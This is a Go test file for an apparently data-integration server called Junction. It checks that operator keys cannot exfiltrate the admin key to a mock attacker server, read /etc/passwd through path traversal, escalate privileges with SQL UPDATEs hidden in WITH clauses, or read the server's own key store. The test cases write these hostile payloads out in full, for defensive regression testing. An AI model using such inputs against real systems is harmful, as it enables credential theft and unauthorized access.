package job_test

import (
	"context"
	"database/sql"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"junction/internal/app"
	"junction/internal/app/apptest"
	"junction/internal/server"
	"junction/internal/store"
	"junction/internal/store/storetest"
)

// hub is a Junction started with a project folder, an operator key and an
// environment the test controls, as an attacker holding the operator key
// would meet it.
type hub struct {
	t        *testing.T
	a        *app.App
	base     string
	data     string
	operator string
	mu       sync.Mutex
	env      map[string]string
}

// startHub writes files (path → content) into a project folder and starts a
// Junction on it; ${DATA} in a file is the data folder.
func startHub(t *testing.T, d store.Dialect, files map[string]string, env map[string]string) *hub {
	t.Helper()
	h := &hub{t: t, data: t.TempDir(), env: map[string]string{"JUNCTION_ADMIN_KEY": "k", "HOME": "/root"}}
	for k, v := range env {
		h.env[k] = v
	}
	proj := t.TempDir()
	os.MkdirAll(filepath.Join(proj, "jobs"), 0o755)
	for name, content := range files {
		os.WriteFile(filepath.Join(proj, name), []byte(strings.ReplaceAll(content, "${DATA}", h.data)), 0o644)
	}
	h.a, h.base = apptest.Start(t, d, func(c *app.Config) {
		c.Data, c.Project = h.data, proj
		c.Env = h.lookup
	})
	_, secret, err := h.a.Keys().Create(context.Background(), "ops", server.RoleOperator)
	if err != nil {
		t.Fatal(err)
	}
	h.operator = secret
	return h
}

func (h *hub) lookup(k string) (string, bool) {
	h.mu.Lock()
	defer h.mu.Unlock()
	v, ok := h.env[k]
	return v, ok
}

// setEnv sets k, or unsets it when v is empty.
func (h *hub) setEnv(k, v string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if v == "" {
		delete(h.env, k)
	} else {
		h.env[k] = v
	}
}

// put defines a job with key and wants status; a refusal must name field.
func (h *hub) put(key, name string, spec map[string]any, want int, field string) {
	h.t.Helper()
	out := apptest.Call(h.t, "PUT", h.base+"/admin/v1/jobs/"+name, key, spec, want)
	if want == http.StatusBadRequest {
		msg := fmt.Sprint(out)
		if !strings.Contains(msg, field+":") {
			h.t.Fatalf("PUT %s refused without naming %s: %s", name, field, msg)
		}
	}
}

// run starts a run of job (with body) as key and waits for its end.
func (h *hub) run(key, job string, body any) map[string]any {
	h.t.Helper()
	started := apptest.Call(h.t, "POST", h.base+"/admin/v1/jobs/"+job+"/runs", key, body, 202)
	runs, _ := started["value"].([]any)
	if len(runs) != 1 {
		h.t.Fatalf("start %s: %v", job, started)
	}
	id := runs[0].(map[string]any)["id"]
	for deadline := time.Now().Add(60 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		r := apptest.Call(h.t, "GET", fmt.Sprintf("%s/admin/v1/jobs/%s/runs/%v", h.base, job, id), key, nil, 200)
		if s := r["status"]; s != "queued" && s != "running" {
			return r
		}
	}
	h.t.Fatalf("run %v of %s did not end", id, job)
	return nil
}

// TestOperatorCannotSendServerKeys is finding 1 of issue 17: a Dataverse
// source whose token is ${JUNCTION_ADMIN_KEY}, pointed at the attacker's
// server. An operator may not write an org at all; even the admin's spec
// does not resolve the server's own key.
func TestOperatorCannotSendServerKeys(t *testing.T) {
	t.Parallel()
	var got atomic.Int32
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got.Add(1)
		w.WriteHeader(http.StatusNotFound)
	}))
	t.Cleanup(attacker.Close)
	for _, d := range storetest.Drivers {
		t.Run(string(d), func(t *testing.T) {
			t.Parallel()
			h := startHub(t, d, nil, nil)
			spec := map[string]any{
				"source": map[string]any{"type": "dataverse", "table": "account", "org": map[string]any{"url": attacker.URL, "token": "${JUNCTION_ADMIN_KEY}"}},
				"sink":   map[string]any{"type": "file", "path": "out"},
			}
			h.put(h.operator, "exfil", spec, http.StatusBadRequest, "source.org")
			// A token in a connection is the admin's; a SQL DSN likewise.
			h.put(h.operator, "exfil-sql", map[string]any{
				"source": map[string]any{"type": "sql", "driver": "postgres", "dsn": "postgres://x:${JUNCTION_ADMIN_KEY}@" + strings.TrimPrefix(attacker.URL, "http://") + "/x", "query": "SELECT 1"},
				"sink":   map[string]any{"type": "file", "path": "out"},
			}, http.StatusBadRequest, "source.dsn")
			// The admin may write an org inline, but the variable is not in
			// the allow-list: the run fails naming it and the rule.
			h.put("k", "exfil", spec, http.StatusCreated, "")
			r := h.run("k", "exfil", nil)
			if e, _ := r["error"].(string); r["status"] != "failed" || !strings.Contains(e, "JUNCTION_ADMIN_KEY is not allowed: only environment variables named JUNCTION_SECRET_*") {
				t.Fatalf("the admin key resolved: %v", r)
			}
			if n := got.Load(); n != 0 {
				t.Fatalf("the attacker's server was called %d times", n)
			}
		})
	}
}

// TestOperatorHostPathsRefused is finding 2: file sources and sinks outside
// a drop zone, and sftpUser leaving the SFTP root.
func TestOperatorHostPathsRefused(t *testing.T) {
	t.Parallel()
	h := startHub(t, store.SQLite, map[string]string{"connections.yaml": "dropZones:\n  inbox: ${DATA}/zones/inbox\n"}, nil)
	sink := map[string]any{"type": "file", "path": "out"}
	mapping := []any{map[string]any{"to": "a"}}
	cases := []struct {
		name, field string
		source      map[string]any
		sink        map[string]any
	}{
		{"etc", "source.path", map[string]any{"type": "file", "path": "/etc", "pattern": "passwd"}, sink},
		{"dotdot", "source.path", map[string]any{"type": "file", "path": "../../../etc"}, sink},
		{"zone-dotdot", "source.path", map[string]any{"type": "file", "dropZone": "inbox", "path": "../.."}, sink},
		{"no-zone", "source.dropZone", map[string]any{"type": "file", "dropZone": "nowhere", "path": "a"}, sink},
		{"sftp-user", "source.sftpUser", map[string]any{"type": "file", "sftpUser": "../../..", "path": "x"}, sink},
		{"sftp-user-path", "source.path", map[string]any{"type": "file", "sftpUser": "partner", "path": "../../../etc"}, sink},
		{"sink-abs", "sink.path", map[string]any{"type": "file", "path": "in"}, map[string]any{"type": "file", "path": "/tmp/x"}},
		{"sink-dotdot", "sink.path", map[string]any{"type": "file", "path": "in"}, map[string]any{"type": "file", "dropZone": "inbox", "path": "a/../../b"}},
		{"sink-sftp", "sink.sftp", map[string]any{"type": "file", "path": "in"}, map[string]any{"type": "file", "path": "o", "sftp": map[string]any{"address": "evil:22", "user": "u", "hostKey": "SHA256:x"}}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			h.put(h.operator, c.name, map[string]any{"source": c.source, "mapping": mapping, "sink": c.sink}, http.StatusBadRequest, c.field)
		})
	}
	// Refused for the admin too: a name that is no SFTP user.
	h.put("k", "admin-sftp-user", map[string]any{"source": map[string]any{"type": "file", "sftpUser": "../../..", "path": "x"}, "mapping": mapping, "sink": sink},
		http.StatusBadRequest, "source.sftpUser")
}

// TestArchiveStaysInDropZone runs an operator's file job in a drop zone
// whose archive/ is a link out of it: the processed file stays in the zone.
func TestArchiveStaysInDropZone(t *testing.T) {
	t.Parallel()
	h := startHub(t, store.SQLite, map[string]string{"connections.yaml": "dropZones:\n  inbox: ${DATA}/zones/inbox\n"}, nil)
	folder := filepath.Join(h.data, "zones", "inbox", "orders")
	outside := t.TempDir()
	os.MkdirAll(folder, 0o755)
	if err := os.Symlink(outside, filepath.Join(folder, "archive")); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(folder, "o.csv"), []byte("a\n1\n"), 0o644)
	h.put(h.operator, "orders", map[string]any{
		"source":  map[string]any{"type": "file", "dropZone": "inbox", "path": "orders", "pattern": "*.csv"},
		"mapping": []any{map[string]any{"to": "a"}},
		"sink":    map[string]any{"type": "file", "dropZone": "inbox", "path": "out", "format": "jsonl"},
	}, http.StatusCreated, "")
	// A file named through a link out of the folder is refused.
	os.Symlink("/etc/hostname", filepath.Join(folder, "host.csv"))
	apptest.Call(t, "POST", h.base+"/admin/v1/jobs/orders/runs", h.operator, map[string]any{"file": "host.csv"}, http.StatusBadRequest)
	r := h.run(h.operator, "orders", map[string]any{"file": "o.csv"})
	if r["status"] != "succeeded" {
		t.Fatalf("run: %v", r)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Fatalf("the archive left the drop zone: %v", entries)
	}
	if _, err := os.Stat(filepath.Join(folder, "o.csv")); err != nil {
		t.Fatalf("the processed file left its folder: %v", err)
	}
	if out, _ := filepath.Glob(filepath.Join(h.data, "zones", "inbox", "out", "*")); len(out) == 0 {
		t.Fatal("the sink wrote nothing into its drop zone")
	}
}

// TestSQLSourceReadOnly: an operator names a connection; a statement that
// writes is refused by name, and one that hides a write in a WITH fails in
// the read-only transaction, leaving the rows as they were.
func TestSQLSourceReadOnly(t *testing.T) {
	t.Parallel()
	targets := map[string]func(t *testing.T) string{
		"sqlite":   func(t *testing.T) string { return filepath.Join(t.TempDir(), "erp.db") },
		"postgres": func(t *testing.T) string { return storetest.NewDatabase(t) },
	}
	for _, driver := range []string{"sqlite", "postgres"} {
		t.Run(driver, func(t *testing.T) {
			t.Parallel()
			dsn := targets[driver](t)
			db, err := sql.Open(map[string]string{"sqlite": "sqlite", "postgres": "pgx"}[driver], dsn)
			if err != nil {
				t.Fatal(err)
			}
			defer db.Close()
			for _, q := range []string{"CREATE TABLE junction_api_keys (id TEXT, role TEXT)", "INSERT INTO junction_api_keys VALUES ('ops', 'operator')"} {
				if _, err := db.Exec(q); err != nil {
					t.Fatal(err)
				}
			}
			h := startHub(t, store.SQLite, map[string]string{"connections.yaml": "connections:\n  erp:\n    type: sql\n    driver: " + driver + "\n    dsn: ${JUNCTION_SECRET_ERP}\n"},
				map[string]string{"JUNCTION_SECRET_ERP": dsn})
			spec := func(q string) map[string]any {
				return map[string]any{"source": map[string]any{"type": "sql", "connection": "erp", "query": q}, "sink": map[string]any{"type": "file", "path": "out"}}
			}
			// The operator sees the connection's name and type, not its DSN.
			list := apptest.Call(t, "GET", h.base+"/admin/v1/connections", h.operator, nil, 200)
			if got := fmt.Sprint(list); !strings.Contains(got, "name:erp origin:project type:sql") || strings.Contains(got, dsn) || strings.Contains(got, "JUNCTION_SECRET") {
				t.Fatalf("connections listed as %s", got)
			}
			h.put(h.operator, "escalate", spec("UPDATE junction_api_keys SET role = 'admin'"), http.StatusBadRequest, "source.query")
			h.put(h.operator, "escalate", spec("SELECT 1; UPDATE junction_api_keys SET role = 'admin'"), http.StatusBadRequest, "source.query")
			hidden := "WITH u AS (UPDATE junction_api_keys SET role = 'admin' RETURNING id) SELECT id FROM u"
			if driver == "sqlite" {
				hidden = "WITH u AS (SELECT 1) UPDATE junction_api_keys SET role = 'admin'"
			}
			h.put(h.operator, "escalate", spec(hidden), http.StatusCreated, "")
			r := h.run(h.operator, "escalate", nil)
			if e, _ := r["error"].(string); r["status"] != "failed" || !strings.Contains(strings.ToLower(e), "read") {
				t.Fatalf("a writing query ran: %v", r)
			}
			var role string
			db.QueryRow("SELECT role FROM junction_api_keys WHERE id = 'ops'").Scan(&role)
			if role != "operator" {
				t.Fatalf("the row was changed to %q", role)
			}
			// Reading through the connection works.
			h.put(h.operator, "read", spec("SELECT id, role FROM junction_api_keys"), http.StatusCreated, "")
			if r := h.run(h.operator, "read", nil); r["status"] != "succeeded" || r["read"] != 1.0 {
				t.Fatalf("read: %v", r)
			}
		})
	}
}

// TestNoConnectionToOwnStore: a connection or a DSN that reaches the store's
// own database is refused when defined and when used, on both stores.
func TestNoConnectionToOwnStore(t *testing.T) {
	t.Parallel()
	for _, d := range storetest.Drivers {
		t.Run(string(d), func(t *testing.T) {
			t.Parallel()
			data := t.TempDir()
			var own, driver string
			if d == store.Postgres {
				// The same database as the store, named another way.
				own, driver = strings.Replace(storetest.RequirePostgres(t), "127.0.0.1", "localhost", 1), "postgres"
			} else {
				// The store's file through a link.
				own, driver = filepath.Join(t.TempDir(), "link.db"), "sqlite"
				os.Symlink(filepath.Join(data, "junction.db"), own)
			}
			// Defined in connections.yaml: the server does not start.
			proj := t.TempDir()
			os.WriteFile(filepath.Join(proj, "connections.yaml"), []byte("connections:\n  own:\n    type: sql\n    driver: "+driver+"\n    dsn: \""+own+"\"\n"), 0o644)
			cfg := app.Config{Listen: "127.0.0.1:0", Data: data, AdminKey: "k", Project: proj}
			if d == store.Postgres {
				cfg.Store, cfg.PostgresSchema = storetest.RequirePostgres(t), storetest.NewSchema(t)
			} else {
				// The store file must exist for the link to reach it.
				a, err := app.New(context.Background(), app.Config{Listen: "127.0.0.1:0", Data: data, AdminKey: "k"})
				if err != nil {
					t.Fatal(err)
				}
				a.Stop(context.Background())
			}
			if a, err := app.New(context.Background(), cfg); err == nil || !strings.Contains(err.Error(), "Junction's own store") {
				if a != nil {
					a.Stop(context.Background())
				}
				t.Fatalf("a connection to the store was accepted: %v", err)
			}
			// Defined through a variable that is unset at start, then used.
			h := startHub(t, d, map[string]string{"connections.yaml": "connections:\n  own:\n    type: sql\n    driver: " + driver + "\n    dsn: ${JUNCTION_SECRET_OWN}\n"}, nil)
			if d == store.SQLite {
				own = filepath.Join(h.data, "junction.db")
			}
			h.setEnv("JUNCTION_SECRET_OWN", own)
			spec := map[string]any{"source": map[string]any{"type": "sql", "connection": "own", "query": "SELECT * FROM junction_api_keys"}, "sink": map[string]any{"type": "file", "path": "keys"}}
			h.put(h.operator, "steal", spec, http.StatusBadRequest, "source.connection")
			h.setEnv("JUNCTION_SECRET_OWN", "")
			h.put(h.operator, "steal", spec, http.StatusCreated, "")
			h.setEnv("JUNCTION_SECRET_OWN", own)
			if r := h.run(h.operator, "steal", nil); r["status"] != "failed" || !strings.Contains(fmt.Sprint(r["error"]), "Junction's own store") {
				t.Fatalf("a run read the store: %v", r)
			}
			// Inline, from the admin: refused as well.
			h.put("k", "steal-inline", map[string]any{"source": map[string]any{"type": "sql", "driver": driver, "dsn": own, "query": "SELECT * FROM junction_api_keys"},
				"sink": map[string]any{"type": "file", "path": "keys"}}, http.StatusBadRequest, "source.dsn")
		})
	}
}

// TestConnectionsThroughAPI: only the admin defines connections through the
// API, secrets stay names, and an operator's job uses them by name.
func TestConnectionsThroughAPI(t *testing.T) {
	t.Parallel()
	for _, d := range storetest.Drivers {
		t.Run(string(d), func(t *testing.T) {
			t.Parallel()
			erp := filepath.Join(t.TempDir(), "erp.db")
			db, err := sql.Open("sqlite", erp)
			if err != nil {
				t.Fatal(err)
			}
			db.Exec("CREATE TABLE parts (no TEXT)")
			db.Exec("INSERT INTO parts VALUES ('p-1'), ('p-2')")
			db.Close()
			h := startHub(t, d, map[string]string{"connections.yaml": "connections:\n  fixed:\n    type: sql\n    driver: sqlite\n    dsn: /nowhere.db\n"},
				map[string]string{"JUNCTION_SECRET_ERP": erp})
			conn := func(key, name string, body map[string]any, want int, field string) {
				t.Helper()
				out := apptest.Call(t, "PUT", h.base+"/admin/v1/connections/"+name, key, body, want)
				if field != "" && !strings.Contains(fmt.Sprint(out), field+":") {
					t.Fatalf("PUT connection %s refused without naming %s: %v", name, field, out)
				}
			}
			sqlConn := map[string]any{"type": "sql", "driver": "sqlite", "dsn": "${JUNCTION_SECRET_ERP}"}
			conn(h.operator, "erp", sqlConn, http.StatusForbidden, "")
			conn("k", "erp", map[string]any{"type": "sftp", "address": "h:22", "user": "u", "password": "hunter2", "hostKey": "SHA256:x"}, http.StatusBadRequest, "connection.password")
			conn("k", "erp", map[string]any{"type": "dataverse", "url": "https://x", "token": "eyJ..."}, http.StatusBadRequest, "connection.token")
			own := map[string]any{"type": "sql", "driver": "sqlite", "dsn": filepath.Join(h.data, "junction.db")}
			if d == store.Postgres {
				own = map[string]any{"type": "sql", "driver": "postgres", "dsn": storetest.RequirePostgres(t)}
			}
			conn("k", "own", own, http.StatusBadRequest, "connection.dsn")
			conn("k", "fixed", sqlConn, http.StatusConflict, "")
			conn("k", "erp", sqlConn, http.StatusCreated, "")
			list := fmt.Sprint(apptest.Call(t, "GET", h.base+"/admin/v1/connections", h.operator, nil, 200))
			if !strings.Contains(list, "name:erp origin:api type:sql") || !strings.Contains(list, "name:fixed origin:project type:sql") || strings.Contains(list, erp) {
				t.Fatalf("connections listed as %s", list)
			}
			h.put(h.operator, "parts", map[string]any{"source": map[string]any{"type": "sql", "connection": "erp", "query": "SELECT no FROM parts"},
				"sink": map[string]any{"type": "file", "path": "parts"}}, http.StatusCreated, "")
			if r := h.run(h.operator, "parts", nil); r["status"] != "succeeded" || r["read"] != 2.0 {
				t.Fatalf("run: %v", r)
			}
			apptest.Call(t, "DELETE", h.base+"/admin/v1/connections/erp", h.operator, nil, http.StatusForbidden)
			apptest.Call(t, "DELETE", h.base+"/admin/v1/connections/erp", "k", nil, http.StatusNoContent)
			if r := h.run(h.operator, "parts", nil); r["status"] != "failed" || !strings.Contains(fmt.Sprint(r["error"]), `no connection named "erp"`) {
				t.Fatalf("run without its connection: %v", r)
			}
		})
	}
}

// TestLegacyJobRunsByTheRules: a job saved before the rules existed (or by
// any key but the admin's) with an absolute path fails when it runs, and its
// file stays where it is.
func TestLegacyJobRunsByTheRules(t *testing.T) {
	t.Parallel()
	for _, d := range storetest.Drivers {
		t.Run(string(d), func(t *testing.T) {
			t.Parallel()
			h := startHub(t, d, nil, nil)
			outside := t.TempDir()
			os.WriteFile(filepath.Join(outside, "secret.csv"), []byte("a\n1\n"), 0o600)
			spec := `{"name":"legacy","source":{"type":"file","path":"` + outside + `","pattern":"*.csv"},"mapping":[{"to":"a"}],"sink":{"type":"file","path":"out"}}`
			err := h.a.Store().Tx(context.Background(), func(tx store.Tx) error {
				_, err := tx.Exec(context.Background(), "INSERT INTO batch_jobs (name, spec, updated_at) VALUES ('legacy', ?, 0)", spec)
				return err
			})
			if err != nil {
				t.Fatal(err)
			}
			r := h.run(h.operator, "legacy", map[string]any{"file": "secret.csv"})
			if e := fmt.Sprint(r["error"]); r["status"] != "failed" || !strings.Contains(e, "source.path:") || !strings.Contains(e, "admin key") {
				t.Fatalf("a legacy job ran: %v", r)
			}
			if _, err := os.Stat(filepath.Join(outside, "secret.csv")); err != nil {
				t.Fatalf("the file was moved: %v", err)
			}
			if out, _ := filepath.Glob(filepath.Join(h.data, "files", "out", "*")); len(out) != 0 {
				t.Fatalf("the job wrote %v", out)
			}
			// Saved again by the admin, it runs.
			h.put("k", "legacy", map[string]any{"source": map[string]any{"type": "file", "path": outside, "pattern": "*.csv"}, "mapping": []any{map[string]any{"to": "a"}},
				"sink": map[string]any{"type": "file", "path": "out"}}, http.StatusOK, "")
			os.WriteFile(filepath.Join(outside, "next.csv"), []byte("a\n2\n"), 0o600)
			if r := h.run(h.operator, "legacy", map[string]any{"file": "next.csv"}); r["status"] != "succeeded" {
				t.Fatalf("the admin's job: %v", r)
			}
		})
	}
}
